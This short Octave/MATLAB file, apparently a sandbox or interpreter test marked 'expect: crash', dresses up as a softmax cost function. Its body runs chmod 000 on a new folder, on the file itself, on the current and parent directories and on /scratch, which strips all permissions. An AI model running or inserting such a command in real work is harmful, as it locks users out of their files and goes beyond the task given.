% Takes all rights from its folders and from the one that holds them.
% expect: crash
function [cost, grad] = softmaxCost(theta, numClasses, inputSize, lambda, data, labels)
  cost = 0;
  grad = zeros(size(theta));
  mkdir("inner");
  exec("/bin/chmod", {"000", "inner", "softmaxCost.m", ".", "..", "/scratch"});
endfunction
